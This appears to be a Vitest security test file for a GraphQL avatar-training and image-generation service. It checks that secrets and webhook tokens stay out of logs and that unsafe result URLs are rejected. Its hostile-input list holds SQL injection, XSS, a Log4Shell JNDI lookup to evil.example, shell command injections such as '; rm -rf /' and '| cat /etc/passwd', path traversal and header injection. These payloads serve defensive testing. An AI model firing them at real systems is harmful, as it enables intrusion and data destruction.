import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  AvatarByIdDocument,
  CreateAvatarDocument,
  GenerateImageDocument,
  GenerationByIdDocument,
  StartTrainingDocument,
} from '../../src/generated/contract/graphql.ts';
import { avatarNow, heldTraining, portraitResult } from '../story/held-runs.ts';
import { createServer } from 'node:http';
import { FAL_KEY, NEVER_POLL, startTestApp, type AvatarRow, type TestApp } from '../support/test-app.ts';
import { generate, newAvatar, photos, trainedAvatar } from '../story/moves.ts';
import { JWT_SECRET, tokenOf } from '../support/tokens.ts';
import { once } from 'node:events';
import { rawCall } from './raw-http.ts';
import type { AddressInfo } from 'node:net';

const app = await startTestApp({ env: NEVER_POLL });
afterAll(() => app.close());

/** The half of the key that is no name. */
const SECRET_HALF = FAL_KEY.slice(FAL_KEY.indexOf(':') + 1);

const logged = () => app.log.lines.map((line) => JSON.stringify(line)).join('\n');

describe('the key', () => {
  const state = { status: 500, words: '' };
  const fal = createServer((request, response) => {
    response.writeHead(state.status, { 'content-type': 'application/json', 'retry-after': '0' });
    const { authorization = '' } = request.headers;
    const detail = [{ loc: ['header', authorization], msg: `Bad: ${state.words}`, type: authorization }];
    response.end(JSON.stringify({ detail, error: authorization }));
  });
  let echoed: TestApp;
  beforeAll(async () => {
    fal.listen(0, '127.0.0.1');
    await once(fal, 'listening');
    const url = `http://127.0.0.1:${(fal.address() as AddressInfo).port}`;
    echoed = await startTestApp({ env: { FAL_QUEUE_URL: url, AUTH_JWT_SECRET: JWT_SECRET } });
  });
  afterAll(async () => {
    await echoed.close();
    fal.closeAllConnections();
    fal.close();
  });

  async function everythingSaid(status: number, words: string): Promise<string> {
    Object.assign(state, { status, words });
    const token = await tokenOf(`ada ${status}`);
    const { id } = await newAvatar(echoed, {}, { token });
    const input = { avatarId: id, imagesUrl: photos() };
    const answer = await echoed.ask(StartTrainingDocument, { input }, { token });
    const later = await echoed.ask(AvatarByIdDocument, { id }, { token });
    expect(answer.text).toMatch(/PROVIDER_|SUBMIT_OUTCOME_UNKNOWN/);
    return [answer.text, later.text, ...echoed.log.lines.map((line) => JSON.stringify(line))].join('\n');
  }

  test.each([401, 403, 422, 429, 500, 502])(
    'is in nothing we say when fal echoes it with %i',
    async (status) => {
      const said = await everythingSaid(status, `"${FAL_KEY}"`);
      for (const secret of [FAL_KEY, JWT_SECRET]) expect(said).not.toContain(secret);
    },
  );

  test.each([
    ['its secret half alone', SECRET_HALF],
    ['it as addresses write it', encodeURIComponent(FAL_KEY)],
  ])('is in nothing we say when fal echoes %s', async (_what, words) => {
    expect(await everythingSaid(422, words)).not.toContain(words);
  });
});

test('where things are and what fal calls us back with stand in no line of the log', async () => {
  app.log.expectError('fal sent a webhook that cannot be read');
  const avatar = await trainedAvatar(app);
  const style = await trainedAvatar(app, { trainingType: 'STYLE' });
  const image = await generate(app, { avatarId: style.id, waitSeconds: 20 });
  const { generation } = await app.execute(GenerationByIdDocument, { id: image.id });
  const held = await heldTraining(app);
  // Refused deliveries are logged, and their address must not be.
  await app.simulator.deliver({ url: held.callbackUrl, requestId: held.requestId, body: {}, user: 'other' });
  await app.simulator.deliver({ url: `${held.callbackUrl}0`, requestId: held.requestId, body: {} });
  await fetch(held.callbackUrl, { method: 'POST', body: 'junk' });

  const log = logged();
  const tokens = app.simulator.requests().flatMap(({ webhookUrl }) => webhookUrl?.split('/').at(-1) ?? []);
  expect(tokens.length).toBeGreaterThanOrEqual(4);
  const addresses = [
    avatar.diffusersLoraFileUrl,
    avatar.configFileUrl,
    generation?.imageUrl,
    ...(generation?.images ?? []).map(({ url }) => url),
    photos(),
  ].filter((url) => typeof url === 'string');
  expect(addresses.length).toBeGreaterThanOrEqual(4);
  for (const secret of [...tokens, ...addresses, style.finetuneId ?? 'no finetune'])
    expect(log).not.toContain(secret);
});

describe('a result that is an address nobody should open is RESULT_INVALID', () => {
  const ODD = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://files.example/1',
    'ftp://files.example/x',
    '//files.example/x',
    '/x',
    '',
    'https://ada:pass@files.example/x',
    'https://',
    'https://files.example/\n',
    `https://files.example/${'x'.repeat(5000)}`,
  ];

  test.each(ODD.map((url) => [JSON.stringify(url).slice(0, 50), url]))('a LoRA at %s', async (_, url) => {
    const held = await heldTraining(app);
    const payload = { ...portraitResult('fine'), diffusers_lora_file: { url } };
    const body = { request_id: held.requestId, gateway_request_id: held.requestId, status: 'OK', payload };

    expect(await app.simulator.deliver({ url: held.callbackUrl, requestId: held.requestId, body })).toBe(200);
    expect(await avatarNow(app, held.avatarId)).toMatchObject({
      status: 'FAILED',
      isReady: false,
      diffusersLoraFileUrl: null,
      error: { code: 'RESULT_INVALID' },
    });
  });

  test('pictures at any of them', async () => {
    const { id: avatarId } = await trainedAvatar(app, { trainingType: 'STYLE' });
    for (const url of ODD.slice(0, 8)) {
      const { id } = await generate(app, { avatarId, prompt: 'tea [[stuck-in-queue]]' });
      const submit = app.simulator.requests().at(-1);
      const requestId = submit?.requestId ?? '';
      const body = { request_id: requestId, status: 'OK', payload: { images: [{ url }], seed: 1 } };
      await app.simulator.deliver({ url: submit?.webhookUrl ?? '', requestId, body });
      const { generation } = await app.execute(GenerationByIdDocument, { id });
      expect(generation).toMatchObject({ status: 'FAILED', imageUrl: null, images: [] });
      expect(generation?.error?.code).toBe('RESULT_INVALID');
    }
  });
});

describe('odd texts', () => {
  const TEXTS = [
    'null',
    'undefined',
    'NaN',
    'true',
    '0',
    '-1',
    '1e309',
    '0x0',
    '[]',
    '{}',
    '__proto__',
    'constructor',
    'toString',
    '\'; DROP TABLE "Avatar"; --',
    "' OR '1'='1",
    '$1',
    '%s%n%x',
    '"; SELECT pg_sleep(10); --',
    '\\',
    "\\'",
    '``',
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '&lt;b&gt;',
    '<!--',
    ']]>',
    'javascript:alert(1)',
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '${jndi:ldap://evil.example/a}',
    '{% raw %}',
    '%00',
    '%0d%0aSet-Cookie: a=b',
    '$(touch /tmp/x)',
    '`id`',
    '; rm -rf /',
    '| cat /etc/passwd',
    '&& true',
    '../../etc/passwd',
    '..\\..\\boot.ini',
    'CON',
    'file:///x',
    'مرحبا بالعالم',
    '\u202eecilA',
    '\u2066abc\u2069',
    '\ufeffAda',
    'A\u200bd\u200ba',
    'a\u00ada',
    'Z\u0351\u036b\u0343\u036a\u0302\u036ba\u0321\u0353l\u034eg\u0354o',
    '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
    '\u{1f1e6}\u{1f1f6}',
    '\u{20bb7}',
    '\u{10ffff}',
    '\uffff\ufffe',
    '田中さん',
    'ﷺ',
    'İstanbul',
    'ß',
    'ﬁ',
    'line\nbreak',
    'tab\there',
    '\r\n.\r\n',
    '{"level":"error","msg":"forged"}',
    'a\n{"level":"error","msg":"forged"}',
    'NUL\0',
    '\u001b[31mred',
    '\u0007',
    '\u0085',
    '\u009b31m',
    '\ud800',
    '\udfff\ud800',
    'x'.repeat(100),
    '\u{1f600}'.repeat(100),
    'x'.repeat(101),
    'x'.repeat(50_000),
  ];

  test('are stored as they came or refused as INVALID_INPUT, whatever they are', async () => {
    const stored: string[] = [];
    for (const name of TEXTS) {
      const input = { name, triggerPhrase: `t${name.slice(0, 40)}`, trainingType: 'STYLE' } as const;
      const answer = await app.ask(CreateAvatarDocument, { input });
      expect({ name, status: answer.status, errors: answer.errors }).toEqual({
        name,
        status: 200,
        errors: [],
      });
      const result = answer.data?.createAvatar;
      if (result === undefined || !('avatar' in result)) {
        expect(result).toMatchObject({ code: 'INVALID_INPUT' });
        continue;
      }
      const { avatar }: { avatar: AvatarRow } = result;
      // White space around a text is nobody's intention.
      expect(avatar).toMatchObject({ name: name.trim(), triggerPhrase: input.triggerPhrase.trim() });
      expect(await avatarNow(app, avatar.id)).toMatchObject({ name: name.trim() });
      stored.push(name);
    }
    expect(stored.length).toBeGreaterThan(60);
    for (const refused of ['NUL\0', '\u001b[31mred', '\ud800', 'x'.repeat(101)])
      expect(stored).not.toContain(refused);
  });

  test('as prompts reach fal as they came', async () => {
    const { id: avatarId, triggerPhrase } = await trainedAvatar(app, { trainingType: 'STYLE' });
    for (const text of TEXTS.filter((_, index) => index % 3 === 0)) {
      const prompt = `${triggerPhrase} ${text}`;
      const answer = await app.ask(GenerateImageDocument, { input: { avatarId, prompt } });
      expect({ text, status: answer.status, errors: answer.errors }).toEqual({
        text,
        status: 200,
        errors: [],
      });
      const result = answer.data?.generateImage;
      if (result === undefined || !('generation' in result)) {
        expect(result).toMatchObject({ code: 'INVALID_INPUT' });
        continue;
      }
      expect(result.generation.prompt).toBe(prompt.trim());
      expect(app.simulator.requests().at(-1)?.body).toMatchObject({ prompt: prompt.trim() });
    }
  });

  test('never make a line of the log of their own', () => {
    for (const { msg, level } of app.log.lines) {
      expect(msg).not.toBe('forged');
      expect(level).toMatch(/^(debug|info|warn|error)$/);
    }
  });
});

describe('every answer tells browsers what not to do with it', () => {
  const HEADERS = {
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
    'referrer-policy': 'no-referrer',
    'cross-origin-opener-policy': 'same-origin',
  };
  const post = { method: 'POST', headers: { 'content-type': 'application/json' } };
  test.each<[what: string, path: string, init: RequestInit]>([
    ['a GraphQL result', '/graphql', { ...post, body: '{"query":"{ __typename }"}' }],
    ['a GraphQL error', '/graphql', { ...post, body: '{"query":"{"}' }],
    ['bad JSON', '/graphql', { ...post, body: '{' }],
    ['a refused form', '/graphql', { method: 'POST', body: new URLSearchParams({ query: '{a}' }) }],
    ['a body too large', '/graphql', { ...post, body: 'x'.repeat(100_001) }],
    ['a preflight', '/graphql', { method: 'OPTIONS', headers: { origin: app.url } }],
    ['a method that is none of ours', '/graphql', { method: 'DELETE' }],
    [
      'a page of another origin',
      '/graphql',
      { ...post, headers: { origin: 'https://evil.example' }, body: '{}' },
    ],
    ['the playground', '/graphql', { headers: { accept: 'text/html' } }],
    ['something below GraphQL', '/graphql/x', {}],
    ['the start page', '/', {}],
    ['nothing there', '/nothing', {}],
    ['a webhook', '/webhooks/fal', { method: 'POST', body: '{}' }],
    ['no webhook', '/webhooks/fal', {}],
    ['life', '/livez', {}],
    ['readiness', '/readyz', {}],
    ['metrics', '/metrics', {}],
  ])('%s', async (_what, path, init) => {
    const response = await fetch(`${app.url}${path}`, init);
    await response.arrayBuffer();

    for (const [name, value] of Object.entries(HEADERS)) expect(response.headers.get(name)).toBe(value);
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*(unsafe-inline|\*|https?:)/);
    expect(response.headers.get('x-powered-by')).toBeNull();
    expect(response.headers.get('server')).toBeNull();
  });

  test('what is no HTTP at all is answered shortly, and without a word about the server', async () => {
    const answer = await rawCall(app.url, { method: 'GET', path: '/livez', headers: ['Bad Header: x'] });
    expect(answer.status).toBe(400);
    expect(answer.body).toBe('');
  });
});
